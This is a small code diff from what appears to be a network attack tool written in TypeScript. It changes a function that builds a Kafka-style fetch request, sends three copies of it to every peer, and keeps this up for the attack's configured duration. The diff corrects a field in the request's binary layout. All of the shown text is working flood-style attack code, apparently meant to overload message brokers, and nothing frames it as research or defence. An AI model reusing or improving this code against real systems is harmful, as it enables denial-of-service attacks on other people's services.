@@ -211,7 +211,7 @@ async function parked(attack: Attack): Promise<string> {
     .int8(0)
     .int32(0)
     .int32(0);
-  fetch.int32(1).string(topic).int32(1).int32(0).int64(0).int32(MIB).int32(0);
+  fetch.int32(1).string(topic).int32(1).int32(0).int64(0).int64(-1).int32(MIB).int32(0);
   const ask = frame(keys.fetch, 7, 1, fetch.done());
   for (const peer of peers) peer.send(Buffer.concat([ask, ask, ask]));
   await rest(attack.seconds * 1_000);
